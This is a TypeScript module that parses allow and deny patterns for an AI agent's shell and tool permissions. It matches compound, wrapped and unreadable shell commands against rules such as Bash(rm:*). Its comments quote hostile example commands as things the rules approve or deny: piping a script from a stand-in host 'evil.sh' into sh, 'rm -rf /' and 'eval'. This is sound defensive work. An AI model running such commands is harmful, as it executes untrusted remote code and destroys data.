/**
 * @module One entry of `allowed-tools` / `disallowed-tools` (SPEC §11): a tool name (`Read`,
 * `mcp__github__create_issue`), optionally with an argument pattern — `Bash(git:*)` and `Bash(git *)`
 * (the command starts with `git`), `Read(src/**)` (a glob), `Bash(npm test)` (exactly). A pattern
 * approves a shell command only when it is one simple command (`isSimpleShellCommand`): `Bash(git add:*)`
 * approves `git add .`, never `git add . && curl evil.sh | sh`; and matches a shell command when any simple
 * command inside it, or one it runs through a wrapper, does, as written or as the shell reads it
 * (`readShellCommand`): `Bash(rm:*)` in `disallowed-tools` denies `echo hi && rm -rf /`, `sudo rm -rf /` and
 * `/bin/rm x`. A shell command that cannot be read before it runs (`curl x | sh`, `eval "$x"`) matches every
 * pattern with an argument: deny rules err toward denying.
 */
import { picomatch } from "../model/lazy-picomatch.js";
import { isSimpleShellCommand } from "./simple-shell-command.js";
import { readShellCommand, type ShellCommandReading } from "./wrapped-shell-commands.js";

/** A parsed tool pattern. */
export interface ToolPattern {
  /** As written in the frontmatter. */
  text: string;
  /** The tool name, compared without regard to case (`Bash` names a host's `bash`). */
  tool: string;
  /** The argument pattern inside the parentheses, when there is one. */
  argument?: string;
  /**
   * True when a call's main argument (command, path, …) matches; always true without `argument`. What
   * `disallowed-tools` uses: a shell command matches when the whole of it or any simple command inside it
   * does, or one it runs through a wrapper (`wrappedCommandsOf`), so `Bash(rm:*)` there matches
   * `echo hi && rm -rf /`, `x | rm y`, `$(rm z)`, `sudo rm z`, `"rm" z` and `sh -c 'rm z'`; and a shell
   * command that cannot be read before it runs (it feeds text to a shell or interpreter, or computes its
   * command word) matches whenever the pattern has an argument.
   */
  matchesInput(input: unknown): boolean;
  /**
   * When `matchesInput` is true only because the shell command cannot be read before it runs: why
   * (`sh reads commands from standard input`); `undefined` otherwise.
   */
  unreadableIn(input: unknown): string | undefined;
  /**
   * What `allowed-tools` uses: `matchesInput`, and a shell command (the input's `command` or `cmd`, or the
   * input itself when a string) must also be one simple command. Always true without `argument`.
   */
  approvesInput(input: unknown): boolean;
}

const toolName = /^[A-Za-z_][\w.:-]*$/;
const inputKeys = ["command", "cmd", "file_path", "filePath", "path", "url", "pattern", "query"];
const commandKeys = new Set(["command", "cmd"]);
const anyInput = () => true;
const readable = () => undefined;

/** Parses one entry; `undefined` when it is not in a form we know (the caller reports it). */
export function parseToolPattern(text: string): ToolPattern | undefined {
  const trimmed = text.trim();
  const open = trimmed.indexOf("(");
  const name = open === -1 ? trimmed : trimmed.slice(0, open);
  if (!toolName.test(name)) return undefined;
  if (open === -1)
    return { text, tool: name, matchesInput: anyInput, unreadableIn: readable, approvesInput: anyInput };
  if (!trimmed.endsWith(")")) return undefined;
  const argument = trimmed.slice(open + 1, -1).trim();
  if (argument === "" || argument === "*")
    return { text, tool: name, matchesInput: anyInput, unreadableIn: readable, approvesInput: anyInput };
  const matches = argumentMatcher(argument);
  /** The reading of the call's shell command when some command in it does not match. */
  const unmatched = (input: unknown): ShellCommandReading | undefined => {
    const value = mainArgument(input);
    if (value === undefined || matches(value) || !isShellCommand(input)) return undefined;
    const reading = cachedReading(value);
    return reading.commands.some(matches) ? undefined : reading;
  };
  return {
    text,
    tool: name,
    argument,
    matchesInput: (input) => {
      const value = mainArgument(input);
      if (matches(value)) return true;
      if (value === undefined || !isShellCommand(input)) return false;
      const reading = cachedReading(value);
      return reading.unknown !== undefined || reading.commands.some(matches);
    },
    unreadableIn: (input) => unmatched(input)?.unknown,
    approvesInput: (input) => {
      const value = mainArgument(input);
      return matches(value) && (!isShellCommand(input) || isSimpleShellCommand(value as string));
    },
  };
}

let lastCommand: string | undefined;
let lastReading: ShellCommandReading = { commands: [] };

/** `readShellCommand`, read once for the several deny patterns a call is checked against. */
function cachedReading(command: string): ShellCommandReading {
  if (command !== lastCommand) {
    lastReading = readShellCommand(command);
    lastCommand = command;
  }
  return lastReading;
}

/** True when the main argument is a shell command: a string input, or one under `command` / `cmd`. */
function isShellCommand(input: unknown): boolean {
  if (typeof input !== "object" || input === null) return true;
  const record = input as Record<string, unknown>;
  const key = inputKeys.find((candidate) => typeof record[candidate] === "string");
  return key === undefined || commandKeys.has(key);
}

function argumentMatcher(argument: string): (value: string | undefined) => boolean {
  const prefix = /^(.*?)(?::\*| \*)$/.exec(argument)?.[1];
  if (prefix !== undefined) {
    return (value) =>
      value !== undefined &&
      (value === prefix ||
        value.startsWith(`${prefix} `) ||
        (prefix.endsWith(" ") && value.startsWith(prefix)));
  }
  if (/[*?[\]{}]/.test(argument)) {
    const glob = picomatch(argument, { dot: true });
    return (value) => value !== undefined && glob(value);
  }
  return (value) => value !== undefined && value.trim() === argument;
}

/** The argument a pattern is matched against: the input itself when a string, else its command or path. */
export function mainArgument(input: unknown): string | undefined {
  if (typeof input === "string") return input;
  if (typeof input !== "object" || input === null) return undefined;
  const record = input as Record<string, unknown>;
  for (const key of inputKeys) if (typeof record[key] === "string") return (record[key] as string).trim();
  return undefined;
}

/** True when `pattern` names the tool called `name` (case-insensitive). */
export function namesTool(pattern: ToolPattern, name: string): boolean {
  return pattern.tool.toLowerCase() === name.toLowerCase();
}
